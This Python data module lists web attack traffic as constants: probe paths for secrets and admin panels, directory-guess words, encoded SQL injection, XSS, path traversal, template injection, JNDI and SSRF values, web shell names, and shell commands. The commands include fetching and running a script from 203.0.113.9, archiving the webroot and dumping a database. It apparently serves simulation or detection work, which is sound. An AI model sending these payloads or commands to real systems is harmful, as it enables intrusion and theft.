"""What scanners and intruders ask for, as lists: sensitive paths, guessed names, injected values, shell commands.

All of it is public knowledge from the word lists and logs of common scanners; nothing here does harm by itself.
"""

from __future__ import annotations

PROBES = (
    "/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/.svn/entries", "/.DS_Store", "/.htpasswd",
    "/wp-login.php", "/wp-admin/setup-config.php", "/wp-config.php.bak", "/wp-content/plugins/hello.php",
    "/wp-includes/wlwmanifest.xml", "/xmlrpc.php", "/phpmyadmin/index.php", "/pma/index.php", "/phpinfo.php",
    "/info.php", "/administrator/index.php", "/admin/config.php", "/manager/html", "/solr/admin/info/system",
    "/actuator/env", "/actuator/health", "/jenkins/login", "/server-status", "/cgi-bin/luci", "/cgi-bin/test.cgi",
    "/boaform/admin/formLogin", "/HNAP1/", "/GponForm/diag_Form", "/setup.cgi", "/owa/auth/logon.aspx",
    "/autodiscover/autodiscover.json", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/console/",
    "/api/jsonws/invoke", "/_ignition/execute-solution", "/telescope/requests", "/debug/default/view",
    "/config.json", "/config/database.yml", "/backup.sql", "/dump.sql", "/db.sql.gz", "/backup.zip", "/www.zip",
    "/old/", "/test/", "/dev/", "/staging/", "/adminer.php", "/filemanager/dialog.php", "/elfinder/elfinder.html",
    "/ckeditor/samples/", "/fckeditor/editor/", "/joomla/", "/drupal/", "/magento_version", "/user/register",
    "/ecp/Current/exporttool/", "/remote/fgt_lang", "/dana-na/auth/url_default/welcome.cgi", "/geoserver/web/",
    "/nacos/v1/auth/users", "/druid/index.html", "/swagger-ui.html", "/v2/_catalog", "/.vscode/sftp.json",
)  # fmt: skip
"""Sensitive paths that one request each is spent on."""

GUESSES = (
    "admin", "backup", "old", "test", "dev", "tmp", "temp", "private", "secret", "config", "conf", "include",
    "includes", "inc", "lib", "src", "bin", "cgi-bin", "data", "db", "database", "sql", "dump", "log", "logs",
    "upload", "uploads", "download", "media", "image", "css", "scripts", "js", "static", "portal", "panel",
    "cpanel", "webmail", "mail", "ftp", "user", "users", "member", "members", "customer", "client", "clients",
    "billing", "invoice", "payment", "order", "api", "rest", "soap", "service", "services", "status", "stats",
    "monitor", "debug", "trace", "error", "setup", "install", "installer", "update", "upgrade", "phpmyadmin",
    "mysql", "root", "home", "site", "www", "web", "intranet", "internal", "staff", "hr", "finance", "report",
    "reports", "export", "import", "cache", "session", "sessions", "auth", "oauth", "token", "keys", "cert",
    "ssl", "key", "passwd", "password", "shadow", "users.db", "accounts", "archive", "archives", "beta", "demo",
    "sandbox", "stage", "staging", "prod", "production", "release", "build", "dist", "vendor", "node_modules",
    "composer", "package", "readme", "changelog", "license", "robots", "sitemap", "crossdomain", "server",
    "nginx", "apache", "tomcat", "jboss", "weblogic", "jenkins", "gitlab", "svn", "cvs", "git", "hg", "docker",
    "kubernetes", "swagger", "graphql", "graphiql", "console", "shell", "cmd", "exec", "index", "default", "main",
    "global", "common", "template", "templates", "themes", "plugins", "modules", "components", "editor", "forum",
    "wiki", "cms", "crm", "erp", "shop2", "store", "cart", "checkout2", "survey", "poll", "guestbook", "calendar",
)  # fmt: skip
ENDINGS = (
    "",
    "/",
    ".php",
    ".bak",
    ".zip",
    ".old",
    ".txt",
    ".sql",
    ".tar.gz",
    ".asp",
    ".jsp",
    ".json",
    "~",
    ".xml",
)
"""GUESSES times ENDINGS is the list that a directory scan works through."""

INJECTIONS = (
    "1%27%20OR%20%271%27=%271", "1%20UNION%20SELECT%20NULL,NULL,NULL--", "1%27;WAITFOR%20DELAY%20%270:0:5%27--",
    "1%20AND%20SLEEP(5)", "-1%20UNION%20ALL%20SELECT%20table_name%20FROM%20information_schema.tables--",
    "%27%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--%20-", "1)%20ORDER%20BY%2014--", "%27)%20OR%20(%27a%27=%27a",
    "%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Csvg/onload=alert(document.domain)%3E",
    "javascript:alert(String.fromCharCode(88,83,83))", "%3Cimg%20src=x%20onerror=prompt(1)%3E",
    "../../../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "%00../../boot.ini",
    ";cat%20/etc/passwd", "%7Cid", "$(sleep%205)", "`whoami`", "&&ping%20-c%203%20127.0.0.1",
    "%7B%7B7*7%7D%7D", "$%7B7*7%7D", "%3C%25=7*7%25%3E", "$%7Bjndi:ldap://203.0.113.9:1389/a%7D",
    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "%0d%0aSet-Cookie:%20x=1",
    "__proto__[admin]=1", "%7B%22$gt%22:%22%22%7D", "*)(uid=*))(%7C(uid=*", "2147483648", "-1", "999999999999",
)  # fmt: skip
PARAMETERS = ("id", "q", "page", "cat", "file", "lang", "sort", "ref", "path", "view", "item", "name", "url")

GARBAGE = (
    r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03",
    r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    r"SSH-2.0-Go", r"\x00\x0E8\xB4\x8E\xF0\xC9\x1B", "CONNECT 203.0.113.9:443 HTTP/1.1x", r"\x05\x01\x00",
)  # fmt: skip
"""Request lines that are no HTTP, as the server escapes them."""

SHELLS = ("wp-cache.php", "x.php", "shell.php", "up.php", "1.php", "thumbs.php", ".cache.php", "mini.php",
          "lock360.php", "cmd.jsp", "about.php7", "radio.php", "class.api.php", "img_4.phtml")  # fmt: skip
COMMANDS = (
    "id", "whoami", "uname+-a", "ls+-la", "cat+/etc/passwd", "pwd", "ps+aux", "netstat+-an", "cat+../config.php",
    "find+/+-perm+-4000", "wget+http://203.0.113.9/m.sh+-O+/tmp/m", "chmod+755+/tmp/m", "/tmp/m+%26", "crontab+-l",
    "tar+czf+/tmp/w.tgz+..", "mysqldump+-u+web+shop", "rm+-f+/tmp/w.tgz", "ls+/home", "cat+/proc/version", "w",
)  # fmt: skip
